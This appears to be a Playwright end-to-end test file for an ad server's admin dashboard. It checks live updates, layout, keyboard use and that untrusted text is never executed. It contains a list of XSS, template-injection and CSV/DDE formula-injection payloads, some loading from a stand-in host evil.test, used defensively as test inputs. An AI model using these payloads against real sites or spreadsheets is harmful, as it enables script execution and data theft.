"""The desk in a real browser: live figures, no text that runs, no page that is too wide, all of it by keyboard."""

import contextlib
import csv
import io
import itertools
import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from urllib.parse import quote, urljoin
from xml.etree import ElementTree as ET

import msgspec
import pytest
import redis
from playwright.sync_api import Browser, Page, expect

from adserver.core.ads import Advertiser, Blocked, Candidate, Match
from adserver.core.ads import Page as Article
from adserver.stores.catalogue import Catalogue
from adserver.stores.pages import Pages

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
VECTORS = [
    "<script>pwned=1</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<body onload=pwned=1>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<a href=javascript:pwned=1>x</a>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video>",
    "<audio src=x onerror=pwned=1>",
    "<object data=javascript:pwned=1>",
    "<embed src=javascript:pwned=1>",
    "<math><a xlink:href=javascript:pwned=1>x</a></math>",
    "<form action=javascript:pwned=1><button>x</button></form>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>",
    "<marquee onstart=pwned=1>x</marquee>",
    "{{ 7*7 }}{% raw %}",
    "{{ cycler.__init__.__globals__ }}",
    "${pwned=1}",
    '=HYPERLINK("//evil.test/?"&A1;pwned)',
    "@SUM(1+1)*cmd|' /C calc pwned'!A0",
    "-1+1 pwned",
    "%(n)s %s {0} {n}",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1&#60;/script&#62;",
    "\u2028pwned=1\u2029",
    "\u202e>tpircs<",
    "<scr\0ipt>pwned=1</scr\0ipt>",
    "＜script＞pwned=1＜/script＞",
]
BREAKS = ["", '">', "'>", "</title></desc></svg></textarea>"]
PAYLOADS = [before + vector for vector, before in itertools.product(VECTORS, BREAKS)]
PAGES = [
    "/admin/",
    "/admin/sites/demo/",
    "/admin/sites/demo/?range=90d&rows=100",
    "/admin/sites/demo/page?path=%2Fde%2Ffilterkaffee.html",
    "/admin/sites/demo/embed",
    "/admin/sites/demo/trending",
    "/admin/sites/demo/settings",
    "/admin/sites/demo/shares",
    "/admin/sites/demo/mails",
    "/admin/sites/demo/imports",
    "/admin/new-site",
    "/admin/users/admin",
    "/admin/account/second-factor",
    "/admin/campaigns",
    "/admin/campaigns/kaffeekontor-probe/",
    "/admin/campaigns/kaffeekontor-probe/edit",
    "/admin/campaigns/kaffeekontor-probe/ads/kaffeekontor-probe-de/edit",
    "/admin/campaigns/kaffeekontor-probe/report",
    "/admin/campaigns/kaffeekontor-probe/shares",
    "/admin/campaigns/kaffeekontor-probe/delete",
    "/admin/campaigns/forecast",
    "/admin/advertisers",
    "/admin/advertisers/kaffeekontor/",
    "/admin/advertisers/kaffeekontor/shares",
    "/admin/advertisers/kaffeekontor/edit",
    "/admin/advertisers/kaffeekontor/statements",
    "/admin/sites/demo/earnings",
    "/admin/account",
    "/admin/users",
    "/admin/about",
]


class Desk:
    """A page of somebody who is logged in, and all that went wrong in it."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.url = page, url
        self.complaints: list[str] = []
        page.on("console", lambda message: self.complaints.append(message.text) if message.type in {"error", "warning"} else None)
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("dialog", lambda dialog: (self.complaints.append(dialog.message), dialog.dismiss()))

    def open(self, address: str) -> None:
        self.page.goto(self.url + address)

    def login(self, password: str) -> None:
        self.open("/admin/")
        self.page.fill("#username", "admin")
        self.page.fill("#password", password)
        self.page.press("#password", "Enter")
        self.page.wait_for_url("**/admin/")


@pytest.fixture
def desk(browser: Browser, demo_server) -> Iterator[Desk]:
    context = browser.new_context(locale="en-GB")
    opened = Desk(context.new_page(), demo_server.desk_url)
    opened.login(demo_server.password)
    yield opened
    context.close()


def view(demo, path: str, **more: str) -> None:
    """One view, as the script sends it."""
    body = json.dumps({"path": path, "slots": 1, **more}).encode()
    headers = {"Origin": "http://publisher.test", "User-Agent": FIREFOX, "Content-Type": "text/plain"}
    with urllib.request.urlopen(urllib.request.Request(demo.url + "/v1/view", body, headers)) as answer:
        assert answer.headers["Litfass-Ignored"] is None


def test_a_view_shows_up_without_a_reload(desk, demo_server):
    desk.open("/admin/sites/demo/")
    before = desk.page.locator("#views").inner_text()
    desk.page.evaluate("window.same = true")

    view(demo_server, "/de/filterkaffee.html")
    expect(desk.page.locator("#views")).not_to_have_text(before)
    expect(desk.page.locator("#now-short")).not_to_have_text("0")
    expect(desk.page.locator("svg.minutes .slot")).to_have_count(30)
    expect(desk.page.locator("svg.minutes rect.bar").first).to_be_attached()

    assert desk.page.evaluate("window.same"), "the page was loaded anew"
    assert desk.complaints == []


def test_the_check_beside_the_snippet_sees_the_first_view(desk, demo_server):
    desk.open("/admin/sites/demo/embed")
    view(demo_server, "/de/sauerteig.html")
    expect(desk.page.locator("[data-check-text]")).to_have_text("The first view has arrived.")


# German on a phone and English on a wide screen: see test_desk_accessibility, which walks all pages too.
@pytest.mark.parametrize(("language", "width"), [("en", 390), ("de", 1440)])
def test_no_page_is_too_wide_or_complains(browser, demo_server, language, width):
    context = browser.new_context(viewport={"width": width, "height": 900}, locale=language)
    desk = Desk(context.new_page(), demo_server.desk_url)
    desk.login(demo_server.password)
    for address in PAGES:
        desk.open(address)
        assert desk.page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth"), address
        assert desk.page.get_attribute("html", "lang") == language
    assert desk.complaints == []
    context.close()


def test_ranges_are_chosen_by_single_keys_that_can_be_switched_off(desk):
    desk.open("/admin/sites/demo/")
    desk.page.keyboard.press("w")
    desk.page.wait_for_url("**range=7d")
    desk.page.keyboard.press("Shift+M")
    desk.page.wait_for_url("**range=30d")
    desk.page.locator("[data-shortcuts]").click()
    desk.page.keyboard.press("w")
    desk.open("/admin/sites/demo/?range=90d")
    desk.page.keyboard.press("d")
    desk.page.locator("[data-shortcuts]").click()
    desk.page.keyboard.press("q")
    desk.page.wait_for_url("**range=90d")
    assert desk.complaints == []


def test_the_first_tab_leads_past_the_menu_to_the_content(desk):
    desk.open("/admin/sites/demo/")
    desk.page.keyboard.press("Tab")
    expect(desk.page.locator(".skip")).to_be_focused()
    desk.page.keyboard.press("Enter")
    expect(desk.page.locator("#main")).to_be_focused()


def test_without_javascript_everything_is_there(browser, demo_server):
    view(demo_server, "/de/filterkaffee.html")
    context = browser.new_context(java_script_enabled=False, locale="en")
    desk = Desk(context.new_page(), demo_server.desk_url)
    desk.login(demo_server.password)
    desk.open("/admin/sites/demo/")
    assert desk.page.locator("svg.bars rect.bar").count() >= 23
    desk.page.get_by_text("These figures as a table").click()
    assert desk.page.locator("details.data tbody tr").count() >= 23
    context.close()


def test_no_text_of_pages_ads_or_readers_is_ever_run(browser, start_demo):
    assert len(PAYLOADS) >= 100
    demo = start_demo("--workers", "1", LITFASS_FLOOD_VIEWS_PER_MINUTE="0")
    paths = plant(demo)
    context = browser.new_context(locale="en")
    desk = Desk(context.new_page(), demo.desk_url)
    desk.login(demo.password)

    desk.open("/admin/sites/demo/?rows=100")
    expect(desk.page.locator("#views")).to_have_text(str(len(paths)))
    desk.open("/admin/sites/demo/?rows=100")
    assert len(paths) > 100
    assert desk.page.locator(".list .title", has_text="pwned").count() > 60
    for address in [*PAGES, *(f"/admin/sites/demo/page?path={quote(path, safe='')}" for path in paths[::7])]:
        desk.open(address)
        assert desk.page.evaluate("typeof pwned") == "undefined", address
        assert desk.page.url.startswith(demo.desk_url + "/admin/"), address
    check_files(context, demo)
    for address in shared_by(desk, demo):
        desk.page.goto(address)
        assert desk.page.evaluate("typeof pwned") == "undefined", address
        assert desk.page.locator("body", has_text="pwned").count() == 1, address
    check_readers_side(context, demo)
    assert desk.complaints == []
    context.close()


def shared_by(desk: Desk, demo) -> Iterator[str]:
    """Links to a site's figures and a campaign's report, the first of them to be embedded."""
    for address, embeddable in (("/admin/sites/demo/shares", True), ("/admin/campaigns/kaffeekontor-probe/shares", False)):
        desk.open(address)
        desk.page.fill("#name", PAYLOADS[4])
        if embeddable:
            desk.page.check("[name=embeddable]")
        desk.page.locator("form.fields button").last.click()
        link = desk.page.locator(".secret").inner_text()
        yield demo.desk_url + link[link.index("/", len("https://")) :] + ("?range=7d&rows=100" if embeddable else "")


def check_files(context, demo) -> None:
    """Files are taken as files, and no cell of a table is a formula."""
    for address, kind in (("export.csv?rows=100", "text/csv"), ("export.json", "application/json"), ("earnings.csv", "text/csv")):
        answer = context.request.get(f"{demo.desk_url}/admin/sites/demo/{address}")
        assert answer.headers["content-type"].startswith(kind), (address, answer.status, answer.url)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-disposition"].startswith("attachment")
        if kind == "text/csv":
            cells = [cell for line in csv.reader(io.StringIO(answer.text())) for cell in line]
            assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def check_readers_side(context, demo) -> None:
    """What readers get of the same texts: ads and the list in an article, the list as page, JSON and RSS, reasons, the ad library."""
    page = context.new_page()
    page.goto(f"{demo.url}/de/filterkaffee.html")
    page.wait_for_selector("[data-slot=ads] a")
    pages = [page.url, page.locator("[data-slot=ads] a[href*='/why/']").first.get_attribute("href")]
    for address in [*pages, "/v1/trending.html?site=demo", "/transparency/demo"]:
        page.goto(urljoin(demo.url, address))
        assert page.evaluate("typeof pwned") == "undefined", address
    for kind, type_ in (("json", "application/json"), ("rss", "application/rss+xml")):
        answer = context.request.get(f"{demo.url}/v1/trending.{kind}?site=demo")
        assert answer.headers["content-type"].startswith(type_)
        assert answer.headers["x-content-type-options"] == "nosniff"
        if kind == "rss":
            assert ET.fromstring(answer.body()).tag == "rss"
    page.close()


def plant(demo) -> list[str]:
    """Payloads as titles, keywords, names and texts of the catalogue; and as paths, referrers and campaigns of views. The paths viewed."""
    store = redis.Redis(unix_socket_path=str(demo.data / "valkey" / "valkey.sock"))
    catalogue, pages = Catalogue(store), Pages(store)
    site = catalogue.site("demo")
    catalogue.put_site(msgspec.structs.replace(site, name=PAYLOADS[0], opt_ins=("referrer", "campaign")))
    ads, campaigns = list(catalogue.ads()), list(catalogue.campaigns())
    ads = [msgspec.structs.replace(ad, headline=PAYLOADS[i], text=PAYLOADS[-i]) for i, ad in enumerate(ads)]
    campaigns = [msgspec.structs.replace(campaign, name=PAYLOADS[i]) for i, campaign in enumerate(campaigns)]
    advertisers = [Advertiser(id=one.id, name=PAYLOADS[-i - 1]) for i, one in enumerate(catalogue.advertisers())]
    catalogue.replace(advertisers, campaigns, ads)
    planted = [article(i, payload, ads[i % len(ads)].id) for i, payload in enumerate(PAYLOADS[:60])]
    pages.put_all("demo", planted)
    store.close()
    return [path for path in candidates(planted) if is_viewed(demo, path)]


def candidates(planted: list[Article]) -> Iterator[str]:
    yield from (one.path for one in planted)
    yield from ("/" + payload for payload in PAYLOADS)


def is_viewed(demo, path: str) -> bool:
    """Whether the view was taken: with the path as its campaign too if that is a campaign's name, else without; a path may be refused."""
    for more in ({"referrer": "evil.test", "campaign": path}, {}):
        with contextlib.suppress(urllib.error.HTTPError):
            view(demo, path, **more)
            return True
    return False


def article(i: int, payload: str, ad: str) -> Article:
    return Article(
        site="demo",
        path=f"/planted/{i}",
        title=payload,
        lang="en",
        version=str(i),
        fetched_at=1_790_000_000,
        keywords=((payload, 1.0),),
        shortlist=(Candidate(ad=ad, score=1.0, matches=(Match(keyword=payload, surface=payload),)),),
        blocked=(Blocked(ad=ad, reason=f"negative:{payload}"),),
    )
